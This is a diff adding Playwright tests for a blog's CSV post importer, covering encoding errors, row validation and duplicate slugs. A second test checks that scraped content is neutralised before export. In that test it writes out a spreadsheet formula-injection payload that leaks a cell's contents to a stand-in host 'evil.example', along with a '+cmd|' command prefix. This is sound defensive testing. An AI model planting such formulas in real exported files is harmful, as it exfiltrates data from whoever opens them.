@@ -197,6 +197,98 @@ test("a file the import cannot read is refused with the reason", async ({ page }
   await expect(page.getByRole("alert")).toHaveText("Only .csv files can be imported");
 });
 
+test("the import corpus: a Latin-1 or UTF-16 file is named, rows the editor would refuse and a repeated slug fail in the preview, extra cells warn", async ({ page }) => {
+  const run = Date.now().toString(36);
+  await signIn(page, IMPORT_PATH);
+  const latin1 = Buffer.from(`${HEADER}\nCaf\u00e9 ${run},cafe-${run},,,,,,,,,,,<p>Body</p>\n`, "latin1");
+  await page.getByLabel("CSV file").setInputFiles({ name: "latin1.csv", mimeType: "text/csv", buffer: latin1 });
+  await expect(page.getByRole("alert")).toContainText("The file is not UTF-8 text (line 2 has a character in another encoding");
+  await expect(page.getByRole("table")).toHaveCount(0);
+  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`${HEADER}\nA,a-${run}\n`, "utf16le")]);
+  await page.getByLabel("CSV file").setInputFiles({ name: "utf16.csv", mimeType: "text/csv", buffer: utf16 });
+  await expect(page.getByRole("alert")).toContainText("The file is saved as UTF-16 text, not UTF-8.");
+
+  const file = [
+    HEADER,
+    `${"Long ".repeat(61)},long-${run},,,,,,,,,,,<p>Body</p>`,
+    `Bell\u0007 ${run},bell-${run},,,,,,,,,,,<p>Body</p>`,
+    `Twin ${run},twin-${run},,,,,,,,,,,<p>First</p>,extra`,
+    `Twin Again ${run},twin-${run},,,,,,,,,,,<p>Second</p>`,
+    "",
+  ].join("\n");
+  await upload(page, "corpus.csv", file);
+  const table = page.getByRole("table");
+  await expect(table.getByRole("row")).toHaveCount(5);
+  const row = (n: number) => table.getByRole("row").nth(n);
+  await expect(row(1)).toContainText("Errors");
+  await expect(row(2)).toContainText("Errors");
+  await expect(row(3)).toContainText("Warnings");
+  await expect(row(4)).toContainText("Errors");
+
+  const errorsOf = async (rowNumber: number) => {
+    await rowAction(page, rowNumber).click();
+    const dialog = page.getByRole("dialog", { name: `Row ${rowNumber}` });
+    const list = dialog.getByRole("list", { name: rowNumber === 3 ? "Warnings" : "Errors" });
+    const text = await list.textContent();
+    await page.keyboard.press("Escape");
+    await expect(dialog).toBeHidden();
+    return text;
+  };
+  expect(await errorsOf(1)).toBe("Title must be at most 300 characters");
+  expect(await errorsOf(2)).toBe("Title: Remove the invisible control characters");
+  expect(await errorsOf(3)).toBe("1 cell beyond the header's columns will be ignored");
+  expect(await errorsOf(4)).toBe(`Row 3 of this file has the same slug "twin-${run}"; only that row can be imported`);
+
+  await page.getByRole("button", { name: "Import Posts" }).click();
+  await expect(toast(page, "Import Complete")).toContainText("Created: 1, Updated: 0, Skipped: 3");
+  // A second run updates nothing with the other row's content.
+  await page.getByRole("button", { name: "Import Posts" }).click();
+  await expect(toast(page, "Import Complete").filter({ hasText: "Created: 0, Updated: 1, Skipped: 3" })).toBeVisible();
+  const postPage = await page.context().newPage();
+  await postPage.goto(`/the-lake-advisor/twin-${run}`);
+  await expect(postPage.getByRole("heading", { level: 1, name: `Twin ${run}` })).toBeVisible();
+  await expect(postPage.getByText("First", { exact: true })).toBeVisible();
+});
+
+test("a hostile scraped page: scraped-posts.csv neutralises its formulas and drops its control characters, and imports the original text", async ({ page }) => {
+  const { server, port } = await startFixtureServer();
+  try {
+    await signIn(page, IMPORT_PATH);
+    const scraper = page.getByRole("region", { name: "URL Scraper (Optional)" });
+    await scraper.getByLabel("Post URLs").fill(`http://${SCRAPE_FIXTURE_HOST}:${port}/blog/hostile-article`);
+    const downloading = page.waitForEvent("download");
+    await scraper.getByRole("button", { name: "Scrape & Download CSV" }).click();
+    const download = await downloading;
+    const csv = await downloadText(download);
+    const [, line] = csv.split("\r\n");
+    const title = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
+    expect(line?.startsWith(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",hostile-article,'+cmd|`)).toBe(true);
+    expect(line).toContain(",'@Jordan Ellis,");
+    expect(line).toContain(",'-Boating,");
+    // eslint-disable-next-line no-control-regex -- the test looks for control characters
+    expect(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/.test(csv)).toBe(false);
+
+    await upload(page, download.suggestedFilename(), csv);
+    await expect(page.getByRole("table").getByText("Valid")).toHaveCount(1);
+    await page.getByRole("button", { name: "Import Posts" }).click();
+    await expect(toast(page, "Import Complete")).toContainText(/Created: 1|Updated: 1/);
+
+    const postPage = await page.context().newPage();
+    await postPage.goto("/the-lake-advisor/hostile-article");
+    await expect(postPage.getByRole("heading", { level: 1, name: title })).toBeVisible();
+    await expect(postPage.getByText("@Jordan Ellis").first()).toBeVisible();
+    const feed = await page.request.get("/the-lake-advisor/rss.xml");
+    const parsed = await postPage.evaluate((xml) => {
+      const doc = new DOMParser().parseFromString(xml, "application/xml");
+      return { error: doc.getElementsByTagName("parsererror").length, titles: [...doc.getElementsByTagName("title")].map((t) => t.textContent) };
+    }, await feed.text());
+    expect(parsed.error).toBe(0);
+    expect(parsed.titles).toContain(title);
+  } finally {
+    server.close();
+  }
+});
+
 test("a request larger than the import's limit is refused before it is read", async ({ page, baseURL }) => {
   await signIn(page, IMPORT_PATH);
   const tooLarge = Buffer.alloc(10 * 1024 * 1024 + 300 * 1024, "a");
@@ -211,6 +303,7 @@ test("a request larger than the import's limit is refused before it is read", as
 const FIXTURES: Record<string, string> = {
   "/blog/best-boat-ramps-lake-norman/": "wordpress-article.html",
   "/posts/davidson-market-report-spring-2025": "jsonld-article.html",
+  "/blog/hostile-article": "hostile-article.html",
 };
 
 /** Serves the scraper's fixture pages on a free port (all interfaces, so "localhost" reaches it on IPv4 or IPv6). */
